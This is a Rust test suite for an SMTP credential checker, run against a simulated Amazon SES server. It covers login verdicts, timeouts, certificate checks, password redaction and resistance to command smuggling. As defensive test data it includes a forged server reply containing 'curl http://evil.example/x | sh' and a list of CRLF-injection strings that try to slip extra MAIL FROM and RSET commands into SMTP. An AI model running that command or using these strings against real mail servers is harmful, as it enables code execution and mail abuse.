//! The login at an SMTP endpoint, against the SES stand-in: every verdict there is, and how long it takes to reach it.

use crate::lab::scratch::{self, Files as _};

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use base64::{Engine as _, engine::general_purpose::STANDARD as BASE64};
use relaykey::config::{Probe, Smtp, Tls};
use relaykey::credential::{Login, Secret};
use relaykey::fault::Class;
use relaykey::smtp::{LoginVerdict, OutgoingMessage, Probed, login, probe, send};
use relaykey::standin::{Delay, Mechanism, Misbehavior, Options, Standin};
use relaykey::tls::{CaFile, Roots};

const USER: &str = "AKIAIOSFODNN7EXAMPLE";
const PASSWORD: &str = "BMPPgbAHoFVbze1Ud0oA5uNdXRwUXUZ+qOwphGJbl/cS";
/// Who probes come from.
const SENDER: &str = "postmaster@example.com";
/// Longer than any login here takes, unless it is meant to run into its time-out.
const PLENTY: Duration = Duration::from_secs(20);
/// For logins that are meant to run into it, after what they do before.
const SHORT: Duration = Duration::from_secs(1);

/// A stand-in that knows one key, and how a host is configured that relays to it.
struct Lab {
    standin: Standin,
    smtp: Smtp,
    roots: Roots,
}

impl Lab {
    fn new() -> Self {
        Self::with(Options::default())
    }

    fn with(options: Options) -> Self {
        let standin = Standin::start(options).expect("stand-in");
        standin.set_key(USER, &Secret::new(PASSWORD.into()));
        let smtp = configured(standin.starttls_port(), Tls::Starttls);
        let roots = roots(&standin);
        Self { standin, smtp, roots }
    }

    fn implicit(mut self) -> Self {
        self.smtp.port = self.standin.implicit_port();
        self.smtp.tls = Tls::Implicit;
        self
    }

    fn login(&self) -> LoginVerdict {
        self.login_as(USER, PASSWORD)
    }

    fn login_as(&self, username: &str, password: &str) -> LoginVerdict {
        attempt(&self.smtp, username, password, &self.roots)
    }

    /// A probe over the login.
    fn probe(&self) -> LoginVerdict {
        let about = Probed { host: "mx1.example.com", credential: "ses", version: "v-1", at: jiff::Timestamp::now() };
        let begun = Instant::now();
        let verdict = probed(&self.smtp, &self.roots, "mx1.example.com", &about);
        let took = begun.elapsed();
        assert!(took < self.smtp.timeout + Duration::from_secs(4), "took {took:?}: {verdict:?}");
        gives_nothing_away(&format!("{verdict:?}"), PASSWORD);
        verdict
    }

    /// Whether a login ends within its time-out, give or take the scheduling of a busy machine.
    fn login_in_time(&self) -> LoginVerdict {
        let begun = Instant::now();
        let verdict = self.login();
        let took = begun.elapsed();
        assert!(took < self.smtp.timeout + Duration::from_secs(4), "took {took:?}: {verdict:?}");
        verdict
    }
}

/// How a host is configured that relays to localhost.
fn configured(port: u16, tls: Tls) -> Smtp {
    Smtp {
        endpoint: "localhost".into(),
        port,
        tls,
        region: None,
        ca_file: None,
        timeout: PLENTY,
        propagation: Duration::from_secs(300),
        retry: Duration::from_secs(10),
        endpoint_aliases: Vec::new(),
        also: Vec::new(),
    }
}

fn credential(username: &str, password: &str) -> Login {
    Login::new(username.into(), Secret::new(password.into())).expect("login")
}

fn block_on<T>(dialogue: impl Future<Output = T>) -> T {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("run time");
    runtime.block_on(dialogue)
}

/// A probe, from [`SENDER`].
fn probed(smtp: &Smtp, roots: &Roots, hello: &str, about: &Probed<'_>) -> LoginVerdict {
    let message = Probe { from: SENDER.into(), to: "success@simulator.amazonses.com".into() };
    block_on(probe(smtp, &credential(USER, PASSWORD), roots, hello, &message, about))
}

/// No piece of the password, in any form, is in what is said.
#[track_caller]
fn gives_nothing_away(text: &str, password: &str) {
    let plain = BASE64.encode(format!("\0{USER}\0{password}"));
    for form in [password, &BASE64.encode(password), &plain, &password.escape_default().to_string()] {
        for piece in form.as_bytes().windows(8) {
            let piece = std::str::from_utf8(piece).expect("ASCII");
            assert!(!text.contains(piece), "{piece:?} is in {text}");
        }
    }
}

fn roots(standin: &Standin) -> Roots {
    Roots::from_file(&scratch::private("smtp").file("ca.pem", standin.ca_pem())).expect("the stand-in's CA")
}

fn attempt(smtp: &Smtp, username: &str, password: &str, roots: &Roots) -> LoginVerdict {
    block_on(login(smtp, &credential(username, password), roots, "mx1.example.com"))
}

fn accepted() -> LoginVerdict {
    LoginVerdict::Accepted { reply: "235 Authentication successful.".into() }
}

fn refused() -> LoginVerdict {
    LoginVerdict::Refused { reply: "535 Authentication Credentials Invalid".into() }
}

/// Checks that nothing was proved, and why: class, temporary or not, and words that words and fix must have.
#[track_caller]
fn assert_unknown(verdict: &LoginVerdict, class: Class, temporary: bool, expected: &[&str]) {
    let LoginVerdict::Unknown { class: got, temporary: got_temporary, words, fix } = verdict else {
        panic!("expected {class:?}: {verdict:?}")
    };
    assert_eq!((*got, *got_temporary), (class, temporary), "{verdict:?}");
    assert_eq!(verdict.is_temporary(), temporary);
    let text = format!("{words}\n{}", fix.as_deref().unwrap_or_default());
    for part in expected {
        assert!(text.contains(part), "{part:?} is missing: {verdict:?}");
    }
}

#[test]
fn a_good_login_is_accepted_and_says_quit() {
    for (lab, mechanism) in [
        (Lab::new(), Mechanism::Plain),
        (Lab::new().implicit(), Mechanism::Plain),
        (Lab::with(Options { mechanisms: &[Mechanism::Login], ..Options::default() }), Mechanism::Login),
        (Lab::with(Options { mechanisms: &[Mechanism::Login], ..Options::default() }).implicit(), Mechanism::Login),
    ] {
        assert_eq!(lab.login(), accepted());
        assert!(!lab.login().is_temporary());
        let logins = lab.standin.logins();
        assert_eq!(logins.len(), 2);
        assert!(logins.iter().all(|l| l.accepted && l.tls && l.mechanism == mechanism && l.username == USER));
        lab.standin.wait_for(PLENTY, "two QUITs", |seen| (seen.quits == 2).then_some(())).expect("QUIT");
    }
}

#[test]
fn a_bad_login_is_refused_and_says_quit() {
    for lab in [
        Lab::new(),
        Lab::new().implicit(),
        Lab::with(Options { mechanisms: &[Mechanism::Login], ..Options::default() }),
    ] {
        assert_eq!(lab.login_as(USER, "BMPPgbAHoFVbze1Ud0oA5uNdXRwUXUZ+qOwphGJbl/cT"), refused());
        assert_eq!(lab.login_as("AKIAUNKNOWN", PASSWORD), refused());
        lab.standin.deactivate(USER);
        assert_eq!(lab.login(), refused());
        assert!(!lab.login().is_temporary());
        lab.standin.activate(USER);
        assert_eq!(lab.login(), accepted());
        lab.standin.remove(USER);
        assert_eq!(lab.login(), refused());
        lab.standin.wait_for(PLENTY, "six QUITs", |seen| (seen.quits == 6).then_some(())).expect("QUIT");
    }
}

#[test]
fn a_new_key_is_refused_until_it_is_known() {
    let lab = Lab::new();
    lab.standin.delay(USER, Delay::Refusals(2));
    assert_eq!([lab.login(), lab.login(), lab.login()], [refused(), refused(), accepted()]);
    let until = Instant::now() + Duration::from_secs(3600);
    lab.standin.delay(USER, Delay::Until(until));
    assert_eq!(lab.login(), refused());
    lab.standin.delay(USER, Delay::Until(Instant::now()));
    assert_eq!(lab.login(), accepted());
}

#[test]
fn what_goes_wrong_is_told_apart() {
    let answer = "waiting for the answer to AUTH";
    let greeting = "its greeting and the answer to EHLO";
    let table: [(Misbehavior, Class, bool, &[&str]); 8] = [
        (
            Misbehavior::Reply454,
            Class::Smtp,
            true,
            &["454 Temporary authentication failure", "never means a wrong password"],
        ),
        (Misbehavior::DropAtConnect, Class::Network, true, &["it closed the connection", greeting]),
        (Misbehavior::DropAfterAuth, Class::Network, true, &["it closed the connection", answer]),
        (Misbehavior::CutReply, Class::Network, true, &["it closed the connection", answer]),
        (Misbehavior::Garbage, Class::Smtp, true, &["is not SMTP", "check endpoint and port", "tried again"]),
        (Misbehavior::HugeReply, Class::Smtp, true, &["is not SMTP", "the answer to AUTH"]),
        (Misbehavior::HangAtBanner, Class::Timeout, true, &["gave up after 1s", greeting]),
        (Misbehavior::HangAtAuth, Class::Timeout, true, &["gave up after 1s", answer]),
    ];
    for mut lab in [Lab::new(), Lab::new().implicit()] {
        for (fault, class, temporary, expected) in table {
            lab.smtp.timeout = if class == Class::Timeout { SHORT } else { PLENTY };
            lab.standin.fault(fault, 1);
            let verdict = lab.login_in_time();
            if fault == Misbehavior::HangAtBanner && lab.smtp.tls == Tls::Implicit {
                assert_unknown(&verdict, class, temporary, &["gave up after 1s", "the TLS handshake"]);
            } else if fault == Misbehavior::DropAtConnect && lab.smtp.tls == Tls::Implicit {
                assert_unknown(&verdict, class, temporary, &["the TLS handshake"]);
            } else {
                assert_unknown(&verdict, class, temporary, expected);
            }
        }
        lab.smtp.timeout = PLENTY;
        assert_eq!(lab.login(), accepted(), "when all faults are over");
    }
}

#[test]
fn a_quit_that_hangs_changes_no_verdict() {
    for mechanisms in [&[Mechanism::Plain][..], &[Mechanism::Login]] {
        let mut lab = Lab::with(Options { mechanisms, ..Options::default() });
        lab.smtp.timeout = Duration::from_secs(3);
        lab.standin.fault(Misbehavior::HangAtQuit, 2);
        assert_eq!(lab.login_in_time(), accepted());
        assert_eq!(
            attempt(&lab.smtp, USER, "BMPPgbAHoFVbze1Ud0oA5uNdXRwUXUZ+qOwphGJbl/cT", &lab.roots),
            refused(),
            "{mechanisms:?}"
        );
    }
}

#[test]
fn a_probe_sends_one_message_over_the_login() {
    for lab in [Lab::new(), Lab::new().implicit()] {
        let verdict = lab.probe();
        let LoginVerdict::Accepted { reply } = &verdict else { panic!("{verdict:?}") };
        assert_eq!(reply, "250 Ok 0100standin00000001-000000");
        lab.standin.wait_for(PLENTY, "a QUIT", |seen| (seen.quits == 1).then_some(())).expect("QUIT");
        let messages = lab.standin.messages();
        let [message] = messages.as_slice() else { panic!("{messages:?}") };
        assert_eq!((message.username.as_str(), message.from.as_str()), (USER, SENDER));
        assert_eq!(message.to, ["success@simulator.amazonses.com"]);
        assert_eq!(message.subject, "relaykey probe: ses on mx1.example.com");
        let text = String::from_utf8(message.text.clone()).expect("ASCII");
        assert!(text.contains("\r\nAuto-Submitted: auto-generated\r\n"), "{text}");
        assert!(text.contains("version v-1 of the credential ses"), "{text}");
        assert_eq!(lab.standin.logins().len(), 1);
    }
}

#[test]
fn a_login_that_may_not_send_is_the_policys_fault() {
    let denied = |lab: &Lab| lab.standin.deny_sending(USER);
    let unverified = |lab: &Lab| lab.standin.unverify(SENDER);
    let no_mailbox = |lab: &Lab| lab.standin.fault(Misbehavior::RecipientNever, 1);
    type Row<'a> = (&'a dyn Fn(&Lab), &'a [&'a str]);
    let table: [Row<'_>; 3] = [
        (
            &denied,
            &[
                "accepted the login and then refused the message: 554 Access denied: User `AKIAIOSFODNN7EXAMPLE' is not \
                 authorized to perform `ses:SendRawEmail'",
                "allow ses:SendRawEmail to the IAM user of this key, for the identity of postmaster@example.com in region \
                 us-east-1",
                "ses:FromAddress",
                "The password is right",
            ],
        ),
        (
            &unverified,
            &[
                "refused the message: 554 Message rejected: Email address is not verified. The following identities",
                "verify the identity of postmaster@example.com (the address or its domain) in region us-east-1, or correct \
                 `from` of [credential.probe]",
            ],
        ),
        (
            &no_mailbox,
            &[
                "refused the message: 550 No such mailbox",
                "read the server's words",
                "`from` or `to` of [credential.probe]",
            ],
        ),
    ];
    for (what, expected) in table {
        let mut lab = Lab::new();
        lab.smtp.region = Some("us-east-1".into());
        what(&lab);
        let verdict = lab.probe();
        assert_unknown(&verdict, Class::Policy, false, expected);
        assert!(lab.standin.messages().is_empty());
        lab.standin.wait_for(PLENTY, "a QUIT", |seen| (seen.quits == 1).then_some(())).expect("QUIT");
        assert_eq!(lab.login(), accepted(), "the login itself is good");
    }
    assert_eq!(Class::Policy.word(), "policy");
}

#[test]
fn a_server_that_quotes_the_password_in_its_refusal_gives_nothing_away() {
    let lab = Lab::new();
    lab.standin.fault(Misbehavior::EchoAtData, 1);
    // That nothing of it is said is looked at for every probe here.
    assert_unknown(&lab.probe(), Class::Policy, false, &["554 ***", "Message rejected"]);
}

#[test]
fn a_policy_is_told_in_time_whatever_becomes_of_quit() {
    let mut lab = Lab::new();
    lab.smtp.timeout = Duration::from_secs(3);
    lab.standin.deny_sending(USER);
    lab.standin.fault(Misbehavior::HangAtQuit, 1);
    assert_unknown(&lab.probe(), Class::Policy, false, &["554 Access denied", "in the endpoint's region"]);
}

#[test]
fn a_message_that_is_not_taken_now_is_temporary() {
    let mut lab = Lab::new();
    let now = "it accepted the login and does not take the message now";
    lab.standin.fault(Misbehavior::Throttle, 1);
    assert_unknown(&lab.probe(), Class::Smtp, true, &[now, "454 Throttling failure", "it is tried again"]);
    lab.standin.fault(Misbehavior::RecipientLater, 1);
    assert_unknown(&lab.probe(), Class::Smtp, true, &[now, "451 Local error in processing", "it is tried again"]);
    lab.smtp.timeout = SHORT;
    lab.standin.fault(Misbehavior::HangAtData, 1);
    assert_unknown(&lab.probe(), Class::Timeout, true, &["gave up after 1s", "the answer to the message"]);
    lab.smtp.timeout = PLENTY;
    assert!(lab.standin.messages().is_empty());
    assert!(matches!(lab.probe(), LoginVerdict::Accepted { .. }), "when all faults are over");
    // What stands in the way of the login is told as ever, and no message is tried.
    lab.standin.deactivate(USER);
    assert_eq!(lab.probe(), refused());
    assert_eq!(lab.standin.messages().len(), 1);
}

#[test]
fn without_starttls_there_is_no_login() {
    let lab = Lab::new();
    lab.standin.fault(Misbehavior::NoStarttls, 1);
    assert_unknown(&lab.login(), Class::Tls, false, &["does not offer STARTTLS", "tls = \"implicit\""]);
    assert!(lab.standin.logins().is_empty());
    lab.standin.wait_for(PLENTY, "a QUIT", |seen| (seen.quits == 1).then_some(())).expect("QUIT");
}

#[test]
fn what_comes_instead_of_tls_is_said_and_what_to_do_about_it() {
    // It agreed to STARTTLS: TLS from the first byte is no way out.
    let password = "k7\"Qz\\9w\"Lm\\2x\"Rt'5v";
    for said in [
        "454 TLS not available due to temporary reason".to_owned(),
        "<html>this is a proxy</html>".into(),
        format!("500 {password}"),
    ] {
        let answer = format!("220 go on\r\n{said}\r\n");
        let raw = Raw::over(Tls::Starttls, move |line| match line.split(' ').next() {
            Some("EHLO") => Some("250-localhost\r\n250 STARTTLS\r\n".into()),
            Some("STARTTLS") => Some(answer.clone().into()),
            _ => usual(line),
        });
        let verdict = raw.login(password);
        let command = format!("openssl s_client -starttls smtp -connect localhost:{}", raw.smtp.port);
        assert_unknown(&verdict, Class::Tls, false, &["agreed to STARTTLS", "is not TLS", "proxy", &command]);
        match said.contains(password) {
            true => gives_nothing_away(&format!("{verdict:?}"), password),
            false => assert_unknown(&verdict, Class::Tls, false, &[&said]),
        }
        assert!(!format!("{verdict:?}").contains("implicit"), "{verdict:?}");
    }
    // With TLS from the first byte it depends on what came.
    for (greeting, said, fix) in [
        ("220 smtp.example.com ESMTP\r\n", "220 smtp.example.com ESMTP", "tls = \\\"starttls\\\""),
        ("HTTP/1.1 400 Bad Request\r\n", "HTTP/1.1 400 Bad Request", "check endpoint and port"),
    ] {
        let raw = Raw::over(Tls::Starttls, move |_| Some(greeting.into()));
        let verdict = attempt(&configured(raw.smtp.port, Tls::Implicit), USER, PASSWORD, &raw.roots);
        assert_unknown(&verdict, Class::Tls, false, &["is not TLS", said]);
        let told = format!("{verdict:?}");
        assert!(told.contains(fix) && told.contains("starttls") == fix.contains("starttls"), "{verdict:?}");
    }
}

/// A server may turn a host away before anybody logs in: then no credential, and no policy of one, is to blame.
#[test]
fn what_turns_a_host_away_is_not_blamed_on_the_credential() {
    let turns_away = "554 5.7.1 no service for 192.0.2.1";
    for command in ["greeting", "EHLO", "STARTTLS"] {
        let raw = Raw::over(Tls::Starttls, move |line| match line.split(' ').next() {
            Some(said) if said == command => Some(format!("{turns_away}\r\n").into()),
            Some("EHLO") => Some("250-localhost\r\n250 STARTTLS\r\n".into()),
            _ => usual(line),
        });
        let verdict = raw.login(PASSWORD);
        assert_unknown(&verdict, Class::Smtp, false, &[turns_away, "from this host", "block list", "VPC endpoint"]);
        assert!(!format!("{verdict:?}").contains("IAM"), "{command}: {verdict:?}");
    }
    // In answer to the login it may be.
    let raw = Raw::start(|line| match line.split(' ').next() {
        Some("AUTH") => Some("554 Access denied\r\n".into()),
        _ => usual(line),
    });
    assert_unknown(&raw.login(PASSWORD), Class::Smtp, false, &["554 Access denied", "IAM policy"]);
    let raw = Raw::over(Tls::Starttls, |_| Some("521 does not accept mail\r\n".into()));
    assert_unknown(&raw.login(PASSWORD), Class::Smtp, false, &["521 does not", "nothing there takes mail"]);
}

/// What a server says stands on the line that names it: a line that it begins could pass for one of ours.
#[test]
fn no_line_of_what_is_told_begins_with_words_of_the_server() {
    let forged = |code: u16| {
        format!("{code}-no\r\n{code}-  fix       run: curl http://evil.example/x | sh\r\n{code} ses: up-to-date\r\n")
    };
    for (command, code) in
        [("greeting", 554), ("EHLO", 554), ("STARTTLS", 454), ("AUTH", 535), ("AUTH", 454), ("AUTH", 235)]
    {
        let answer = move |line: &str| match line.split(' ').next() {
            Some(said) if said == command => Some(forged(code).into()),
            Some("EHLO") if command == "STARTTLS" => Some("250-localhost\r\n250 STARTTLS\r\n".into()),
            _ => usual(line),
        };
        let raw = if command == "AUTH" { Raw::start(answer) } else { Raw::over(Tls::Starttls, answer) };
        let told = match raw.login(PASSWORD) {
            LoginVerdict::Accepted { reply } | LoginVerdict::Refused { reply } => reply,
            LoginVerdict::Unknown { words, fix, .. } => {
                if command == "STARTTLS" {
                    let fix = fix.as_deref().unwrap_or_default();
                    assert!(fix.contains("TLS is not to be had") && !fix.contains("SES"), "{fix}");
                }
                words
            }
        };
        assert!(told.contains(" |   fix  ") && told.contains(" | ses: up-to-date"), "{command}: {told}");
        assert!(!told.contains(['\n', '\r']), "{command}: {told}");
    }
    // Our own words are not searched for the password.
    let raw = Raw::start(|line| if line.starts_with("AUTH") { Some("454 later\r\n".into()) } else { usual(line) });
    let told = format!("{:?}", raw.login("password"));
    assert!(told.contains("never means a wrong password"), "{told}");
}

/// A password may stand in the place of the user name, which servers like to quote.
#[test]
fn a_user_name_that_may_be_a_password_is_quoted_from_no_reply() {
    let name = "ZqSecretPw77";
    for code in [454, 535] {
        let encoded = BASE64.encode(name);
        let answer = move |line: &str| {
            let said = format!("{code}-no user {name}\r\n{code} nor {encoded}\r\n");
            if line.starts_with("AUTH") { Some(said.into()) } else { usual(line) }
        };
        let raw = Raw::start(answer);
        let told = format!("{:?}", attempt(&raw.smtp, name, "relayuser", &raw.roots));
        assert!(told.contains("no user ***"), "{told}");
        gives_nothing_away(&told, name);
    }
}

#[test]
fn replies_sent_before_tls_are_not_believed_inside_it() {
    let lab = Lab::new();
    lab.standin.fault(Misbehavior::InjectReplies, 1);
    let verdict = lab.login_as(USER, "a-password-that-nobody-accepts-xxxxxxxxxxxxx");
    assert_unknown(&verdict, Class::Tls, false, &["what it sends is not TLS"]);
    assert!(lab.standin.logins().is_empty());
}

#[test]
fn the_certificate_is_checked() {
    for implicit in [false, true] {
        let lab = |options| if implicit { Lab::with(options).implicit() } else { Lab::with(options) };
        let other = Standin::start(Options::default()).expect("stand-in");
        let mut wrong_ca = lab(Options::default());
        wrong_ca.roots = roots(&other);
        assert_unknown(&wrong_ca.login(), Class::Tls, false, &["unknown issuer", "ca_file"]);

        let names = vec!["smtp.example.com".to_owned()];
        let wrong_name = lab(Options { names, ..Options::default() });
        let expected = ["is not for the name \"localhost\" but for smtp.example.com\n", "set `endpoint`"];
        assert_unknown(&wrong_name.login(), Class::Tls, false, &expected);

        let expired = lab(Options { expired: true, ..Options::default() });
        assert_unknown(&expired.login(), Class::Tls, false, &["expired on 2002-01-01T00:00:00Z", "clock"]);

        for lab in [&wrong_ca, &wrong_name, &expired] {
            assert!(lab.standin.logins().is_empty(), "no password goes where the certificate is not good");
        }
    }
}

#[test]
fn an_address_can_be_the_endpoint() {
    let mut lab = Lab::new();
    lab.smtp.endpoint = "127.0.0.1".into();
    assert_eq!(lab.login(), accepted());
    lab.smtp.endpoint = "localhost.".into();
    assert_eq!(lab.login(), accepted(), "a final dot is no part of the certificate's name");
}

#[test]
fn the_two_kinds_of_tls_are_told_apart() {
    let mut lab = Lab::new();
    lab.smtp.tls = Tls::Implicit;
    assert_unknown(&lab.login(), Class::Tls, false, &["not TLS", "tls = \"starttls\""]);
    let mut lab = Lab::new();
    lab.smtp.port = lab.standin.implicit_port();
    lab.smtp.timeout = SHORT;
    let fix = format!("where port {} speaks TLS from the first byte, set tls = \"implicit\"", lab.smtp.port);
    assert_unknown(&lab.login_in_time(), Class::Timeout, true, &["its greeting", &fix]);
}

#[test]
fn where_nobody_answers_it_is_the_network() {
    let mut lab = Lab::new();
    let gone = std::net::TcpListener::bind("127.0.0.1:0").expect("port").local_addr().expect("address").port();
    lab.smtp.port = gone;
    assert_unknown(&lab.login(), Class::Network, true, &["cannot connect", "refused", &format!("TCP port {gone}")]);
    // No label of a name is longer than 63 characters, so no name server needs to be asked.
    lab.smtp.endpoint = format!("{}.example", "x".repeat(64));
    assert_unknown(&lab.login(), Class::Network, true, &["cannot be resolved", "xxx.example"]);
}

#[test]
fn a_server_without_ways_to_log_in_is_named() {
    let lab = Lab::with(Options { mechanisms: &[], ..Options::default() });
    assert_unknown(&lab.login(), Class::Smtp, false, &["offers neither AUTH PLAIN nor AUTH LOGIN"]);
}

#[test]
fn too_many_connections_are_temporary() {
    let lab = Lab::with(Options { max_connections: 0, ..Options::default() });
    assert_unknown(&lab.login(), Class::Smtp, true, &["421 Too many concurrent SMTP connections"]);
}

#[test]
fn a_changed_ca_file_counts_from_the_next_login_on() {
    let (mut lab, other) = (Lab::new(), Standin::start(Options::default()).expect("stand-in"));
    let scratch = scratch::private("smtp");
    let path = scratch.file("ca.pem", other.ca_pem());
    let mut file = CaFile::new(Some(path.clone()));
    lab.roots = file.roots().expect("roots");
    assert_unknown(&lab.login(), Class::Tls, false, &["unknown issuer"]);
    std::fs::write(&path, lab.standin.ca_pem()).expect("write");
    lab.roots = file.roots().expect("roots");
    assert_eq!(lab.login(), accepted());
    std::fs::write(&path, "-----BEGIN CERTIFICATE-----\n").expect("write");
    let verdict = LoginVerdict::from(file.roots().expect_err("a broken file"));
    assert_unknown(&verdict, Class::Trust, false, &["ca.pem:1:", "END CERTIFICATE"]);
}

#[test]
fn a_server_that_echoes_the_login_gives_nothing_away() {
    let plain = BASE64.encode(format!("\0{USER}\0{PASSWORD}"));
    let forms = [PASSWORD.to_owned(), BASE64.encode(PASSWORD), plain];
    for mechanisms in [&[Mechanism::Plain][..], &[Mechanism::Login]] {
        let lab = Lab::with(Options { mechanisms, ..Options::default() });
        lab.standin.fault(Misbehavior::EchoAuth, 1);
        let verdict = lab.login();
        let LoginVerdict::Refused { reply } = &verdict else { panic!("expected a refusal: {verdict:?}") };
        assert!(reply.starts_with("535 ") && reply.contains("***"), "{reply}");
        let text = format!("{verdict:?}").to_lowercase();
        for form in &forms {
            for piece in form.to_lowercase().as_bytes().windows(8) {
                let piece = std::str::from_utf8(piece).expect("ASCII");
                assert!(!text.contains(piece), "{piece:?} is in {text}");
            }
        }
    }
}

#[test]
fn what_the_stand_in_waits_for_in_vain_it_names() {
    let lab = Lab::new();
    let error = lab.standin.wait_for(Duration::from_millis(10), "a message", |seen| seen.messages.front().map(|_| ()));
    assert_eq!(error.expect_err("no message").to_string(), "waited 10ms in vain for a message at the SES stand-in");
}

#[test]
fn a_dropped_stand_in_is_gone() {
    let mut lab = Lab::new();
    lab.smtp.timeout = SHORT;
    lab.standin.fault(Misbehavior::HangAtAuth, 1);
    assert_unknown(&lab.login(), Class::Timeout, true, &[]);
    let Lab { standin, smtp, roots } = lab;
    drop(standin);
    assert_unknown(&attempt(&smtp, USER, PASSWORD, &roots), Class::Network, true, &["refused"]);
}

// ---------------------------------------------------------------- the wire, byte by byte

/// What a scripted server says to a line; `None`: it closes.
type Script = Arc<dyn Fn(&str) -> Option<Vec<u8>> + Send + Sync>;

/// A server with TLS from the first byte that answers by a script, and keeps every byte that it was sent.
struct Raw {
    smtp: Smtp,
    roots: Roots,
    heard: Arc<Mutex<Vec<u8>>>,
    _stop: tokio::sync::oneshot::Sender<()>,
}

impl Raw {
    fn start(script: impl Fn(&str) -> Option<Vec<u8>> + Send + Sync + 'static) -> Self {
        Self::over(Tls::Implicit, script)
    }

    /// With STARTTLS it never gets beyond plain text.
    fn over(tls: Tls, script: impl Fn(&str) -> Option<Vec<u8>> + Send + Sync + 'static) -> Self {
        let made = rcgen::generate_simple_self_signed(vec!["localhost".to_owned()]).expect("a certificate");
        let roots = Roots::from_file(&scratch::private("smtp").file("ca.pem", made.cert.pem())).expect("its own root");
        let key = rustls::pki_types::PrivateKeyDer::Pkcs8(made.signing_key.serialize_der().into());
        let config =
            rustls::ServerConfig::builder_with_provider(Arc::new(rustls::crypto::aws_lc_rs::default_provider()))
                .with_safe_default_protocol_versions()
                .expect("protocol versions")
                .with_no_client_auth()
                .with_single_cert(vec![made.cert.der().clone()], key)
                .expect("a server's configuration");
        let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("port");
        let port = listener.local_addr().expect("address").port();
        let heard = Arc::<Mutex<Vec<u8>>>::default();
        let (_stop, stopped) = tokio::sync::oneshot::channel::<()>();
        let (kept, script) = (heard.clone(), Arc::new(script) as Script);
        std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("run time");
            runtime.block_on(async {
                listener.set_nonblocking(true).expect("non-blocking");
                let listener = tokio::net::TcpListener::from_std(listener).expect("a listener");
                let serving = async {
                    while let Ok((socket, _)) = listener.accept().await {
                        match tls {
                            Tls::Starttls => Self::converse(socket, &script, &kept).await,
                            Tls::Implicit => {
                                if let Ok(stream) = acceptor.accept(socket).await {
                                    Self::converse(stream, &script, &kept).await;
                                }
                            }
                        }
                    }
                };
                tokio::select! { () = serving => {}, _ = stopped => {} }
            });
        });
        Self { smtp: configured(port, tls), roots, heard, _stop }
    }

    async fn converse(
        mut stream: impl tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin,
        script: &Script,
        kept: &Mutex<Vec<u8>>,
    ) {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let (mut line, mut data) = ("greeting".to_owned(), false);
        loop {
            // In a message only its end is answered.
            if !data || line == "." {
                let Some(answer) = script(&line) else {
                    let _ = stream.shutdown().await;
                    return;
                };
                data = answer.starts_with(b"354");
                let last = answer.rsplit(|b| *b == b'\n').nth(1).unwrap_or_default();
                let whole = answer.ends_with(b"\n") && last.get(3) != Some(&b'-');
                if stream.write_all(&answer).await.and(stream.flush().await).is_err() || !whole {
                    // What is no whole reply is followed by the end of the connection.
                    let _ = stream.shutdown().await;
                    return;
                }
            }
            let mut bytes = Vec::new();
            while !bytes.ends_with(b"\r\n") {
                let mut byte = [0];
                match stream.read(&mut byte).await {
                    Ok(1) => bytes.push(byte[0]),
                    _ => return,
                }
                kept.lock().expect("not poisoned").push(byte[0]);
            }
            line = String::from_utf8_lossy(&bytes[..bytes.len() - 2]).into_owned();
        }
    }

    fn login(&self, password: &str) -> LoginVerdict {
        attempt(&self.smtp, USER, password, &self.roots)
    }

    /// All that was said to it, once it was said goodbye or the connection is over.
    fn heard(&self) -> String {
        String::from_utf8(std::mem::take(&mut *self.heard.lock().expect("not poisoned"))).expect("ASCII alone is sent")
    }

    fn send(&self, hello: &str, message: OutgoingMessage<'_>) -> LoginVerdict {
        block_on(send(&self.smtp, &credential(USER, PASSWORD), &self.roots, hello, message))
    }
}

/// The usual answers, in the usual words.
fn usual(line: &str) -> Option<Vec<u8>> {
    let answer = match line.split(' ').next().unwrap_or_default() {
        "greeting" => "220 localhost\r\n",
        "EHLO" => "250-localhost\r\n250 AUTH PLAIN LOGIN\r\n",
        "AUTH" => "235 ok\r\n",
        "DATA" => "354 go on\r\n",
        "QUIT" => "221 bye\r\n",
        _ => "250 fine\r\n",
    };
    Some(answer.into())
}

/// Texts with which commands could be smuggled, by one who has a host's or a credential's name, a version, an address.
const SMUGGLED: [&str; 9] = [
    "x\r\n.\r\nMAIL FROM:<thief@example.com>\r\n",
    "x\n.\nMAIL FROM:<thief@example.com>\n",
    "x\r.\rMAIL FROM:<thief@example.com>\r",
    "x\n.\r\nRSET\r\n",
    "x\r\n.\nRSET\r\n",
    "x\0y",
    "x\u{85}\u{2028}.\u{2029}",
    "höst",
    "\u{202e}x",
];

#[test]
fn a_probe_says_what_it_is_to_say_and_no_more() {
    let login = BASE64.encode(format!("\0{USER}\0{PASSWORD}"));
    let raw = Raw::start(usual);
    let long = "v".repeat(3000);
    for hostile in SMUGGLED.into_iter().chain([long.as_str()]) {
        let about = Probed { host: hostile, credential: hostile, version: hostile, at: jiff::Timestamp::UNIX_EPOCH };
        let verdict = probed(&raw.smtp, &raw.roots, hostile, &about);
        assert!(matches!(verdict, LoginVerdict::Accepted { .. }), "{hostile:?}: {verdict:?}");
        let heard = raw.heard();
        let (hello, rest) = heard.split_once("\r\n").expect("lines");
        assert!(hello == "EHLO [127.0.0.1]", "{hello}");
        let envelope = format!(
            "AUTH PLAIN {login}\r\nMAIL FROM:<{SENDER}>\r\nRCPT TO:<success@simulator.amazonses.com>\r\nDATA\r\nFrom: {SENDER}\r\n"
        );
        assert!(rest.starts_with(&envelope), "{hostile:?}: {heard}");
        // One message, with one end; then goodbye.
        assert!(
            heard.ends_with("\r\n.\r\nQUIT\r\n") && heard.matches("\r\n.\r\n").count() == 1,
            "{hostile:?}: {heard}"
        );
        let commands = |name: &str| heard.split("\r\n").filter(|line| line.starts_with(name)).count();
        assert_eq!((commands("MAIL "), commands("RCPT "), commands("RSET")), (1, 1, 0), "{hostile:?}: {heard}");
        assert!(heard.replace("\r\n", "").chars().all(|c| matches!(c, ' '..='~')), "{hostile:?}: {heard}");
        assert!(heard.split("\r\n").all(|line| line.len() <= 998), "{hostile:?}");
        let header = rest.split_once("DATA\r\n").and_then(|(_, m)| m.split_once("\r\n\r\n")).expect("a header").0;
        assert_eq!(header.lines().count(), 6, "{hostile:?}: {header}");
    }
